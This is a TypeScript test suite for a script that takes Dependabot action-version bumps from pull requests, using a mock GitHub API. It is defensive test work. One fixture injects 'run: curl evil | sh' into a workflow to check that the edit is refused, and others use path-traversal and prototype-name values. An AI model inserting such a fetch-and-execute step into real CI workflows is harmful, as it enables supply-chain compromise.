import { execFile } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { suite } from "uvu";
import * as assert from "uvu/assert";
import { isAdopted, isBotBranch, isGeneratedYaml, parseAdoptions } from "../../scripts/github/adopt/adoption.ts";
import { type Collected, collectAdoptions } from "../../scripts/github/adopt/collect-adoptions.ts";
import { pushAdoption } from "../../scripts/github/adopt/push-adoption.ts";
import { connect, RequestError } from "../../scripts/github/adopt/request.ts";
import { ciPath, greetPath, lockPath, makePinnedRepository, releasePath, shas } from "../cli/adopt-repository.ts";
import type { TestRepository } from "../cli/repository.ts";
import { startProgram } from "../helpers/start-program.ts";

type Answer = (body: unknown) => { readonly status?: number; readonly body: unknown };

interface Context extends TestRepository {
  server: Server;
  url: string;
  routes: Map<string, Answer>;
  requests: { readonly route: string; readonly body: unknown; readonly authorization: string | undefined }[];
  collect: () => Promise<Collected>;
}

const base = "0".repeat(40);
const head = "e".repeat(40);
const script = startProgram("scripts/github/adopt_pull_requests.ts");

const test = suite<Context>("adopt over pull requests");
test.before.each(async (context) => {
  const routes: Context["routes"] = new Map();
  const requests: Context["requests"] = [];
  const server = createServer(async (request, response) => {
    const chunks: Buffer[] = [];
    for await (const chunk of request) chunks.push(chunk);
    const text = Buffer.concat(chunks).toString();
    const route = `${request.method} ${request.url}`;
    const body = text === "" ? undefined : JSON.parse(text);
    requests.push({ route, body, authorization: request.headers.authorization });
    const answer = routes.get(route)?.(body) ?? { status: 404, body: { message: "Not Found" } };
    response.statusCode = answer.status ?? 200;
    response.end(typeof answer.body === "string" ? answer.body : JSON.stringify(answer.body));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const repository = await makePinnedRepository();
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const before = snapshot(repository);
  const collect = () =>
    collectAdoptions(connect({ server: url, repository: "o/r", token: "reader" }), {
      root: repository.root,
      base,
      branch: "main",
      adopt: async () => {
        const { code, stdout } = await repository.run(["adopt", "--offline", "--format", "json"]);
        const { written, findings } = JSON.parse(stdout) as { written: string[]; findings: { code: string }[] };
        return { code, written, codes: findings.map((finding) => finding.code) };
      },
      restore: () => {
        for (const [path, text] of Object.entries(before)) repository.write(path, text);
      },
    });
  Object.assign(context, repository, { server, url, routes, requests, collect });
});
test.after.each(async ({ server, dispose }) => {
  dispose();
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
});

function snapshot(repository: TestRepository): Readonly<Record<string, string>> {
  return { ...repository.made(), [lockPath]: repository.read(lockPath) };
}

const pull = (change: object = {}) => ({
  number: 7,
  user: { login: "dependabot[bot]", type: "Bot" },
  head: { ref: "dependabot/github_actions/actions/checkout-7.1.0", sha: head, repo: { full_name: "O/R" } },
  ...change,
});

/** One pull request that changes files, whose texts are given. */
function serve(
  { routes }: Context,
  files: Readonly<Record<string, string>>,
  change: object = {},
  comparison = {},
): void {
  const modified = Object.keys(files).map((filename) => ({ filename, status: "modified" }));
  routes.set("GET /repos/o/r/pulls?state=open&base=main&per_page=100", () => ({ body: [pull(change)] }));
  routes.set(`GET /repos/o/r/compare/${base}...${head}`, () => ({
    body: { behind_by: 0, files: modified, ...comparison },
  }));
  for (const [path, text] of Object.entries(files)) {
    routes.set(`GET /repos/o/r/contents/${path}?ref=${head}`, () => ({ body: text }));
  }
}

const bumpedCi = (repository: TestRepository, to = `${shas.newCheckout} # v7.1.0`) => ({
  [ciPath]: repository.read(ciPath).replaceAll(`${shas.checkout} # v7.0.1`, to),
});

test("takes the bump of a bot's pull request, and puts the checkout back", async (context) => {
  serve(context, bumpedCi(context));
  const before = snapshot(context);
  const { adoptions, log } = await context.collect();
  assert.equal(log, ["#7: 4 files to commit"]);
  const [adoption] = adoptions;
  assert.equal(
    [adoption?.number, adoption?.branch, adoption?.head],
    [7, "dependabot/github_actions/actions/checkout-7.1.0", head],
  );
  assert.equal(
    adoption?.files.map(({ path }) => path),
    [lockPath, "generated/actions.ts", releasePath, greetPath],
  );
  for (const { path, content } of adoption?.files.slice(2) ?? [])
    assert.match(content, `${shas.newCheckout} # v7.1.0`, path);
  assert.equal(snapshot(context), before);
  assert.equal([...new Set(context.requests.map(({ authorization }) => authorization))], ["Bearer reader"]);
  assert.equal(parseAdoptions(JSON.stringify(adoptions)), adoptions);
});
test("takes a bump that Dependabot made in GitHub's own lock, and does not write that file", async (context) => {
  const path = ".github/workflows/actions.lock";
  const githubLock = (sha: string, version: string) =>
    `version: 'v0.0.3'\nworkflows:\n    '${ciPath}':\n        - 'actions/checkout@${sha}'\ndependencies:\n    'actions/checkout@${sha}':\n        ref: '${version}'\n        commit: 'sha1-${sha}'\n        owner_id: 44036562\n        repo_id: 197814629\n`;
  context.write(path, githubLock(shas.checkout, "v7.0.1"));
  serve(context, { ...bumpedCi(context), [path]: githubLock(shas.newCheckout, "v7.1.0") });
  const { adoptions, log } = await context.collect();
  assert.equal(log, ["#7: 4 files to commit"]);
  assert.equal(
    adoptions[0]?.files.map(({ path: written }) => written),
    [lockPath, "generated/actions.ts", releasePath, greetPath],
  );
});
for (const [whose, change] of [
  ["a person", { user: { login: "dependabot[bot]", type: "User" } }],
  ["another bot", { user: { login: "evil[bot]", type: "Bot" } }],
  ["a fork", { head: { ...pull().head, repo: { full_name: "evil/r" } } }],
  ["a fork that is gone", { head: { ...pull().head, repo: null } }],
  ["a deleted account", { user: null }],
  ["another bot's branch", { head: { ...pull().head, ref: "renovate/actions" } }],
  ["the default branch", { head: { ...pull().head, ref: "main" } }],
  ["a branch with a strange name", { head: { ...pull().head, ref: "dependabot/github_actions/../../main" } }],
  ["a head that is no commit", { head: { ...pull().head, sha: "main" } }],
  ["a bot called as what objects inherit", { user: { login: "constructor", type: "Bot" } }],
] as const) {
  test(`does not read the pull request of ${whose}`, async (context) => {
    serve(context, bumpedCi(context), change);
    assert.equal(await context.collect(), { adoptions: [], log: [] });
    assert.is(context.requests.length, 1);
  });
}
for (const [what, path, comparison] of [
  ["a source", "workflows-src/ci.workflow.ts", {}],
  ["package.json", "package.json", {}],
  ["the lock", lockPath, {}],
  ["a workflow that is not generated", ".github/workflows/hand.yml", {}],
  ["a path out of the checkout", "../x/action.yml", {}],
  ["a workflow that it adds", ciPath, { files: [{ filename: ciPath, status: "added" }] }],
  ["nothing", ciPath, { files: [] }],
] as const) {
  test(`leaves a pull request alone that changes ${what}`, async (context) => {
    context.write(".github/workflows/hand.yml", "on: push\n");
    serve(context, { [path]: "text" }, {}, comparison);
    const { adoptions, log } = await context.collect();
    assert.equal([adoptions, log], [[], ["#7: skipped, because it changes more than generated YAML"]]);
    assert.is(context.requests.length, 2, "no text was asked for");
  });
}
test("does not follow a symbolic link", async (context) => {
  context.remove(ciPath);
  symlinkSync(join(context.root, releasePath), join(context.root, ciPath));
  serve(context, { [ciPath]: "x" });
  assert.equal((await context.collect()).log, ["#7: skipped, because it changes more than generated YAML"]);
});
test("leaves a pull request alone that is behind", async (context) => {
  serve(context, bumpedCi(context), {}, { behind_by: 1 });
  assert.equal((await context.collect()).log, [
    "#7: skipped, because it is behind the default branch; have the bot rebase it",
  ]);
});
for (const [what, to, reason] of [
  ["a lower version", `${shas.other} # v6.0.0`, "refused: bump-lowers"],
  ["a tag", "v8", "refused: bump-not-commit"],
  ["the pin that is there in another form", `${shas.checkout} # tag=v7.0.1`, undefined],
] as const) {
  test(`says what it made of ${what}`, async (context) => {
    const before = snapshot(context);
    serve(context, bumpedCi(context, to));
    const { adoptions, log } = await context.collect();
    assert.equal([adoptions.length, log], reason ? [0, [`#7: ${reason}`]] : [1, ["#7: 1 files to commit"]]);
    assert.equal(snapshot(context), before);
  });
}
test("refuses a file with another edit", async (context) => {
  const [path = "", text = ""] = Object.entries(bumpedCi(context))[0] ?? [];
  serve(context, { [path]: text.replace("run: npm test", "run: curl evil | sh") });
  const { adoptions, log } = await context.collect();
  assert.equal([adoptions, log], [[], ["#7: refused: file-edited"]]);
});
test("an answer that is an error stops the run", async (context) => {
  serve(context, bumpedCi(context));
  context.routes.delete(`GET /repos/o/r/compare/${base}...${head}`);
  try {
    await context.collect();
    assert.unreachable();
  } catch (error) {
    assert.instance(error, RequestError);
    assert.match((error as Error).message, "was answered with 404.");
  }
});

const [tree, made] = ["5".repeat(40), "6".repeat(40)];
const adoption = {
  number: 7,
  branch: "renovate/actions",
  head,
  files: [{ path: lockPath, content: "{}\n" }],
};
function servePush({ routes }: Context, status = 200): void {
  routes.set(`GET /repos/o/r/git/commits/${head}`, () => ({ body: { tree: { sha: tree } } }));
  routes.set("POST /repos/o/r/git/trees", () => ({ status: 201, body: { sha: tree } }));
  routes.set("POST /repos/o/r/git/commits", () => ({ status: 201, body: { sha: made } }));
  routes.set("PATCH /repos/o/r/git/refs/heads/renovate/actions", () => ({ status, body: {} }));
}
test("adds one commit on top of the head that was read, without force", async (context) => {
  servePush(context);
  const api = connect({ server: context.url, repository: "o/r", token: "writer" });
  assert.is(await pushAdoption(api, adoption), made);
  assert.equal(
    context.requests.map(({ route, body }) => [route.split(" ")[0], body]),
    [
      ["GET", undefined],
      ["POST", { base_tree: tree, tree: [{ path: lockPath, mode: "100644", type: "blob", content: "{}\n" }] }],
      [
        "POST",
        { message: "Take the version bumps into the lock of actions\n\n[dependabot skip]", tree, parents: [head] },
      ],
      ["PATCH", { sha: made, force: false }],
    ],
  );
});

function runScript(
  args: readonly string[],
  env: Readonly<Record<string, string>>,
): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const options = { env: { PATH: process.env.PATH ?? "", ...env }, timeout: 30_000 };
    execFile(process.execPath, [...script, ...args], options, (error, stdout, stderr) =>
      resolve({ code: error ? Number(error.code) : 0, stdout, stderr }),
    );
  });
}
test("push commits what was handed over, and fails for a branch that has moved on", async (context) => {
  const folder = mkdtempSync(join(tmpdir(), "yardmaster-push-"));
  const file = join(folder, "adoptions.json");
  const env = { GITHUB_API_URL: context.url, GITHUB_REPOSITORY: "o/r", ADOPT_TOKEN: "writer" };
  writeFileSync(file, JSON.stringify([adoption]));
  servePush(context);
  assert.equal(await runScript(["push", file], env), { code: 0, stdout: `#7: committed ${made}\n`, stderr: "" });
  assert.is(context.requests.at(-1)?.authorization, "Bearer writer");
  servePush(context, 422);
  assert.equal(await runScript(["push", file], env), {
    code: 1,
    stdout: "#7: not committed. PATCH /git/refs/heads/renovate/actions was answered with 422.\n",
    stderr: "",
  });
  rmSync(folder, { recursive: true });
});
test("says how it is used", async () => {
  for (const [args, env, problem] of [
    [[], {}, "One command and one file are needed."],
    [["pull", "x"], {}, "The command is neither collect nor push."],
    [["push", "x"], {}, "The environment variable GITHUB_API_URL is not set."],
  ] as const) {
    const { code, stdout, stderr } = await runScript(args, env);
    assert.equal([code, stdout, stderr.split("\n")[0]], [2, "", `adopt_pull_requests: ${problem}`]);
  }
});
test("an empty list of pull requests is no failure, and its count is an output", async (context) => {
  const folder = mkdtempSync(join(tmpdir(), "yardmaster-collect-"));
  context.routes.set("GET /repos/o/r/pulls?state=open&base=main&per_page=100", () => ({ body: [] }));
  const output = join(folder, "output");
  const env = {
    ...{ GITHUB_API_URL: context.url, GITHUB_REPOSITORY: "o/r", GITHUB_TOKEN: "reader" },
    ...{ GITHUB_SHA: base, GITHUB_REF_NAME: "main", GITHUB_OUTPUT: output },
  };
  const file = join(folder, "new", "adoptions.json");
  assert.equal(await runScript(["collect", file], env), {
    code: 0,
    stdout: "No pull request of a bot is open.\n",
    stderr: "",
  });
  assert.equal([readFileSync(file, "utf8"), readFileSync(output, "utf8")], ["[]", "adoptions=0\n"]);
  rmSync(folder, { recursive: true });
});
test("hands over nothing but files that adopt writes, on branches of bots", () => {
  const parses = (change: object) => {
    try {
      return parseAdoptions(JSON.stringify([{ ...adoption, ...change }])).length === 1;
    } catch {
      return false;
    }
  };
  assert.ok(parses({}));
  for (const change of [
    { branch: "main" },
    { head: "main" },
    { number: "7" },
    { files: [] },
    { files: [{ path: "package.json", content: "" }] },
    { files: [{ path: lockPath }] },
  ]) {
    assert.not.ok(parses(change), JSON.stringify(change));
  }
  assert.not.ok(isAdopted("generated/../package.json"));
  assert.not.ok(isGeneratedYaml(".github/workflows/a/b.yml"));
  assert.ok(isGeneratedYaml("action.yml"));
  assert.not.ok(isBotBranch("renovate/a..b"));
});
test.run();
